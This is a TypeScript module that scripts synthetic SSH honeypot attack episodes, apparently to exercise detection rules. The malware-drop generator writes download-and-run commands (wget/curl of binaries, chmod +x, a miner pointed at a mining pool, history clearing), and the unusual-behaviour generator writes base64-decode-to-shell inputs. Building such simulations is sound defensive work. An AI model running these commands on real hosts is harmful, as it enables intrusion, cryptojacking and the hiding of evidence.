/**
 * The six attack scripts (one per ATTACK_TYPES entry): brute force, credential stuffing, a
 * port scan through SSH tunnels, a traffic spike, a malware drop and a person's unusual
 * shell session. Each scripts its sessions from `startUs` within `budget` events and
 * returns the source addresses it used. The generator lets each draw its own size; a drill
 * into a real log sets the size (EpisodeSize) to reach a chosen intensity.
 */
import type { AttackType } from "../../../domain/attack-types";
import type { SeededRandom } from "../../../stats/seeded-random";
import { scriptSession } from "./background-sessions";
import { BRUTE_FORCE_CLIENTS, GO_SPRAYER, HUMAN_CLIENTS, SCANNER } from "./bot-profiles";
import { GO_CURVE25519, LIBSSH2, OPENSSH_8, PARAMIKO } from "./client-fingerprints";
import { acceptedCredentials, leakedCredential, wordlistCredential } from "./credentials";
import { randomBase64, seconds, type ScriptWriter } from "./session-script";
import { MALWARE_HOSTS, MALWARE_NAMES, RARE_COMMANDS, SERVICE_PORTS } from "./vocabulary";

export interface EpisodeSetting {
  readonly startUs: number;
  /** Upper bound on the episode's own events. */
  readonly budget: number;
  /** Background sessions per second, which a traffic spike must exceed many-fold. */
  readonly backgroundSessionsPerSecond: number;
  /** Fixed sizes; what is left out is drawn at random, as the generator does. */
  readonly size?: EpisodeSize;
}

/** How big an episode is, in the numbers a detection rule counts. Each applies to the types named. */
export interface EpisodeSize {
  /** brute-force: failed logins in all. */
  readonly attempts?: number;
  /** brute-force: seconds the attempts span; credential-stuffing: seconds its sources arrive over. */
  readonly spanSeconds?: number;
  /** credential-stuffing: source addresses. */
  readonly sources?: number;
  /**
   * credential-stuffing: every source tries these many pairs, the same for all (a shared combo
   * list); unset, each source tries pairs of its own.
   */
  readonly sharedCredentials?: number;
  /** port-scan/tunnel: distinct forwarded ports. */
  readonly ports?: number;
  /** traffic-spike: sessions in all, and how fast they arrive. */
  readonly sessions?: number;
  readonly sessionsPerSecond?: number;
  /** malware-drop: binaries fetched and run. */
  readonly payloads?: number;
  /** unusual-behaviour: rare commands, and kilobyte-long odd inputs among them. */
  readonly commands?: number;
  readonly oddInputs?: number;
}

export type EpisodeScript = (writer: ScriptWriter, setting: EpisodeSetting) => string[];

/** One address, a few parallel sessions, hundreds of failed logins in 30-60 seconds. */
function scriptBruteForce(writer: ScriptWriter, { startUs, budget, size = {} }: EpisodeSetting): string[] {
  const r = writer.random;
  const ip = writer.sources.forEpisode();
  const client = r.pickWeighted(BRUTE_FORCE_CLIENTS);
  const sessions = r.integer(3, 6);
  const attempts = size.attempts ?? Math.max(sessions * 10, Math.min(r.integer(200, 450), budget - 5 * sessions));
  const spanSeconds = size.spanSeconds ?? r.uniform(30, 60);
  const fixedUser = r.chance(0.6) ? "root" : undefined;
  let attempt = 0;
  for (let k = 0; k < sessions; k++) {
    const share = Math.floor(attempts / sessions) + (k < attempts % sessions ? 1 : 0);
    const s = writer.open(ip, startUs + seconds(r.uniform(0, 2))).connect().handshake(client);
    const step = spanSeconds / share;
    for (let i = 0; i < share; i++, attempt++) s.wait(step * r.uniform(0.7, 1.3)).loginFailed(...wordlistCredential(attempt, fixedUser));
    s.wait(r.uniform(0.05, 0.3)).closed();
  }
  return [ip];
}

/** Many addresses of one botnet, each a few distinct leaked credentials, in a minute or two. */
function scriptCredentialStuffing(writer: ScriptWriter, { startUs, budget, size = {} }: EpisodeSetting): string[] {
  const r = writer.random;
  const client = r.pickWeighted([[GO_CURVE25519, 3], [PARAMIKO, 1]] as const);
  const windowSeconds = size.spanSeconds ?? r.uniform(45, 120);
  const sourceCount = size.sources ?? Math.max(3, Math.min(r.integer(25, 60), Math.floor(budget / 12)));
  const tried = new Set<string>();
  const shared = Array.from({ length: size.sharedCredentials ?? 0 }, () => leakedCredential(r, tried));
  const ips: string[] = [];
  for (let i = 0; i < sourceCount; i++) {
    const ip = writer.sources.forEpisode();
    ips.push(ip);
    let startOfSession = startUs + seconds(r.uniform(0, windowSeconds));
    const sessions = r.chance(0.2) ? 2 : 1;
    for (let k = 0; k < sessions; k++) {
      const s = writer.open(ip, startOfSession).connect().handshake(client);
      const attempts = shared.length > 0 ? shared.length : r.integer(2, 4);
      for (let a = 0; a < attempts; a++) s.wait(r.uniform(0.3, 1.5)).loginFailed(...(shared.length > 0 ? shared[a] : leakedCredential(r, tried)));
      s.wait(r.uniform(0.05, 0.3)).closed();
      startOfSession = s.nowUs + seconds(r.uniform(0.5, 3));
    }
  }
  return ips;
}

/** One address logs in and asks the honeypot to forward connections to many ports. */
function scriptPortScanTunnel(writer: ScriptWriter, { startUs, budget, size = {} }: EpisodeSetting): string[] {
  const r = writer.random;
  const ip = writer.sources.forEpisode();
  const client = r.pickWeighted([[GO_CURVE25519, 2], [OPENSSH_8, 1], [PARAMIKO, 1]] as const);
  const sessions = r.integer(1, 3);
  const portCount = size.ports ?? Math.max(10, Math.min(r.integer(60, 220), budget - 7 * sessions));
  const ports = distinctPorts(r, portCount);
  const target = r.pick(["127.0.0.1", `10.0.${r.integer(0, 3)}.${r.integer(1, 254)}`, `192.168.1.${r.integer(1, 254)}`, writer.sources.anyPublic()]);
  let startOfSession = startUs;
  let next = 0;
  for (let k = 0; k < sessions; k++) {
    const s = writer.open(ip, startOfSession).connect().handshake(client);
    s.wait(r.uniform(0.3, 1.5)).loginSucceeded(...acceptedCredentials(r));
    const share = Math.floor(portCount / sessions) + (k < portCount % sessions ? 1 : 0);
    for (let i = 0; i < share; i++) s.wait(r.uniform(0.02, 0.4)).directTcpipRequest(target, ports[next++]);
    s.wait(r.uniform(0.1, 1)).closed();
    startOfSession = s.nowUs + seconds(r.uniform(1, 5));
  }
  return [ip];
}

/** Well-known service ports first, then random ones, all different. */
function distinctPorts(r: SeededRandom, count: number): number[] {
  const ports = new Set(r.shuffled(SERVICE_PORTS).slice(0, Math.min(count, SERVICE_PORTS.length)));
  while (ports.size < count) ports.add(r.integer(1, 65535));
  return [...ports];
}

/** A wave of short sessions from many addresses, many times the background session rate. */
function scriptTrafficSpike(writer: ScriptWriter, { startUs, budget, backgroundSessionsPerSecond, size = {} }: EpisodeSetting): string[] {
  const r = writer.random;
  // Ten to thirty times the background, and never slower than a scan wave's 1-4 sessions a second.
  const sessionsPerSecond = size.sessionsPerSecond ?? Math.max(r.uniform(10, 30) * backgroundSessionsPerSecond, r.uniform(1, 4));
  const sessionCount = size.sessions ?? Math.max(10, Math.min(r.integer(150, 400), Math.floor(budget / 6)));
  const ips: string[] = [];
  let arrivalUs = startUs;
  let remaining = sessionCount;
  while (remaining > 0) {
    const ip = writer.sources.forEpisode();
    ips.push(ip);
    const bot = r.chance(0.6) ? SCANNER : GO_SPRAYER;
    const client = r.pickWeighted(bot.clients);
    const sessions = Math.min(remaining, r.integer(1, 3));
    for (let k = 0; k < sessions; k++, remaining--) {
      const kind = bot === GO_SPRAYER ? "login-failed" : r.pickWeighted(bot.sessions);
      scriptSession(writer, writer.open(ip, arrivalUs), kind, bot, client);
      arrivalUs += seconds(r.exponential(1 / sessionsPerSecond));
    }
  }
  return ips;
}

/** Log in, fetch a binary with wget or curl, make it executable and run it. */
function scriptMalwareDrop(writer: ScriptWriter, { startUs, size = {} }: EpisodeSetting): string[] {
  const r = writer.random;
  const ip = writer.sources.forEpisode();
  const client = r.pickWeighted([[GO_CURVE25519, 2], [LIBSSH2, 1], [OPENSSH_8, 1]] as const);
  const s = writer.open(ip, startUs).connect().handshake(client);
  s.wait(r.uniform(0.3, 2)).loginSucceeded(...acceptedCredentials(r));
  s.wait(r.uniform(0.1, 0.35)).sessionParams();
  if (r.chance(0.6)) s.wait(r.uniform(0.1, 0.6)).command(r.pick(["uname -a", "uname -m", "cat /proc/cpuinfo | grep name | wc -l"]));
  s.wait(r.uniform(0.1, 0.6)).command(r.pick(["cd /tmp", "cd /tmp || cd /var/run || cd /dev/shm", "cd /dev/shm; mkdir .x; cd .x"]));
  const host = r.chance(0.7) ? writer.sources.anyPublic() : r.pick(MALWARE_HOSTS);
  const port = r.chance(0.3) ? `:${r.pick([8080, 81, 666, 3389])}` : "";
  const payloads = r.shuffled(MALWARE_NAMES).slice(0, size.payloads ?? (r.chance(0.35) ? 2 : 1));
  for (const name of payloads) {
    const url = `http://${host}${port}/${r.pick(["bins", "x", ".s", "dl"])}/${name}`;
    const fetch = r.pick([`wget ${url}`, `curl -O ${url}`, `wget -q ${url} -O ${name} || curl -s -o ${name} ${url}`]);
    s.wait(r.uniform(0.3, 2)).command(fetch);
    s.wait(r.uniform(0.5, 4)).fileDownload(url, r.hex(64));
    s.wait(r.uniform(0.1, 1)).command(`chmod +x ${name}`);
    s.wait(r.uniform(0.1, 0.8)).command(r.pick([`./${name}`, `nohup ./${name} > /dev/null 2>&1 &`, `sh ${name}`, `./${name} -o pool.supportxmr.com:443 -B`]));
  }
  if (r.chance(0.5)) s.wait(r.uniform(0.2, 1)).command(`rm -f ${payloads.join(" ")}; history -c`);
  s.wait(r.uniform(0.05, 0.4)).ttyClosed().wait(r.uniform(0.001, 0.01)).closed();
  return [ip];
}

/** A person at a shell running tools that bots never run, and pasting kilobytes of oddities. */
function scriptUnusualBehaviour(writer: ScriptWriter, { startUs, size = {} }: EpisodeSetting): string[] {
  const r = writer.random;
  const ip = writer.sources.forEpisode();
  const s = writer.open(ip, startUs).connect().handshake(r.pickWeighted(HUMAN_CLIENTS));
  s.wait(r.uniform(3, 10)).loginSucceeded(...acceptedCredentials(r));
  s.wait(r.uniform(0.2, 0.5)).terminal().wait(r.uniform(0.001, 0.003)).sessionParams();
  const commands = r.shuffled(RARE_COMMANDS).slice(0, size.commands ?? r.integer(6, 14));
  const oddInputs = size.oddInputs ?? r.integer(1, 2);
  for (let i = 0; i < oddInputs; i++) commands.splice(r.integer(0, commands.length), 0, oddInput(r));
  for (const command of commands) s.wait(r.uniform(2, 15)).command(command);
  s.wait(r.uniform(1, 5)).ttyClosed().wait(r.uniform(0.001, 0.01)).closed();
  return [ip];
}

function oddInput(r: SeededRandom): string {
  switch (r.integer(0, 2)) {
    case 0:
      return `echo ${randomBase64(r, r.integer(1500, 4000))} | base64 -d | sh`;
    case 1:
      return `python3 -c "import os; os.write(1, b'\\x90' * ${r.integer(2000, 9000)} + b'${randomBase64(r, r.integer(200, 600))}')"`;
    default: {
      let junk = "";
      for (let i = r.integer(800, 2000); i > 0; i--) junk += String.fromCharCode(r.integer(0x21, 0x7e));
      return junk;
    }
  }
}

export const EPISODE_SCRIPTS: Readonly<Record<AttackType, EpisodeScript>> = {
  "brute-force": scriptBruteForce,
  "credential-stuffing": scriptCredentialStuffing,
  "port-scan/tunnel": scriptPortScanTunnel,
  "traffic-spike": scriptTrafficSpike,
  "malware-drop": scriptMalwareDrop,
  "unusual-behaviour": scriptUnusualBehaviour,
};

